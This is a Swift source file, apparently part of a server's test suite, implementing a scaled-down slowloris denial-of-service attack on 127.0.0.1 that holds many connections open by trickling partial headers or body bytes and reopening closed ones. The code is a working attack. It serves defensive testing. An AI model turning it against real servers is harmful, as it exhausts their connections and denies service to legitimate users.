import Dispatch
import Foundation
import Synchronization

/// The slowloris attack as it was reported, scaled down: from each source address (any of 127.0.0.0/8, all
/// loopback on Linux) ``socketsPerSource`` connections that never finish a request. A `.headers` connection
/// sends a request line and then one more header line each tick; a `.body` one sends a whole head announcing
/// a body, then one body byte each tick. At each tick the connections the server closed are opened again (as
/// the reported tool does). Runs on a plain thread from ``start()`` to ``stop()``.
public final class Slowloris: Sendable {
    /// What a connection trickles.
    public enum Drip: Sendable {
        case headers
        case body
    }

    private let port: UInt16
    private let sources: [(address: String, drip: Drip)]
    private let socketsPerSource: Int
    private let tick: Duration
    private let stopRequested = Atomic<Bool>(false)
    private let ended = DispatchSemaphore(value: 0)
    private let tickCount = Atomic<Int>(0)
    private let midTickCount = Atomic<Int>(0)
    private let openedCount = Atomic<Int>(0)
    private let peakHeldCount = Atomic<Int>(0)

    /// An attack on 127.0.0.1:`port`.
    public init(port: UInt16, sources: [(address: String, drip: Drip)], socketsPerSource: Int, tick: Duration) {
        self.port = port
        self.sources = sources
        self.socketsPerSource = socketsPerSource
        self.tick = tick
    }

    /// Ticks completed (each after its reconnections).
    public var ticks: Int { tickCount.load(ordering: .acquiring) }
    /// Half ticks passed since the last reconnection: the moment a legitimate client is sent, far from the
    /// attacker's next burst of reconnections (which may briefly take the spare slots).
    public var midTicks: Int { midTickCount.load(ordering: .acquiring) }

    /// Blocks (a plain thread, never the cooperative pool) until the attack is half a tick past a reconnection
    /// that came after `ticks` ticks; `false` when it is not within a 20 s bound.
    public func awaitMidTick(after ticks: Int) -> Bool {
        RealTime.pollBlocking(within: .seconds(20)) { midTicks > ticks }
    }

    /// Connections opened so far, reopened ones included.
    public var opened: Int { openedCount.load(ordering: .relaxed) }
    /// The most attacking connections the server held from one tick to the next.
    public var peakHeld: Int { peakHeldCount.load(ordering: .relaxed) }

    /// Starts attacking.
    public func start() {
        Thread { [self] in
            run()
            ended.signal()
        }.start()
    }

    /// Stops attacking (closing every connection) and waits for the thread.
    public func stop() {
        stopRequested.store(true, ordering: .releasing)
        ended.wait()
    }

    private func run() {
        var connections: [[RawClient]] = sources.map { _ in [] }
        var line = 0
        while !stopRequested.load(ordering: .acquiring) {
            line += 1
            for (index, source) in sources.enumerated() {
                let drip = source.drip == .headers ? "X-Drip-\(line): 1\r\n" : "x"
                connections[index] = connections[index].filter { $0.isWaiting && $0.send(drip) }
            }
            // Those the server has held since the last tick.
            let held = connections.joined().count
            peakHeldCount.store(max(peakHeldCount.load(ordering: .relaxed), held), ordering: .relaxed)
            for (index, source) in sources.enumerated() {
                while connections[index].count < socketsPerSource, !stopRequested.load(ordering: .relaxed),
                    let client = try? RawClient(port: port, from: source.address, receiveTimeout: .seconds(1))
                {
                    openedCount.add(1, ordering: .relaxed)
                    let opening =
                        source.drip == .headers
                        ? "POST / HTTP/1.1\r\nHost: a\r\n"
                        : "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"
                    guard client.send(opening) else { break }
                    connections[index].append(client)
                }
            }
            tickCount.add(1, ordering: .releasing)
            for half in 0..<2 {
                // A real sleep: the attack's pace against the server's real sockets is the subject.
                let (seconds, attoseconds) = (tick / 2).components
                Thread.sleep(forTimeInterval: Double(seconds) + Double(attoseconds) / 1e18)
                if half == 0 { midTickCount.store(tickCount.load(ordering: .relaxed), ordering: .releasing) }
            }
        }
    }
}
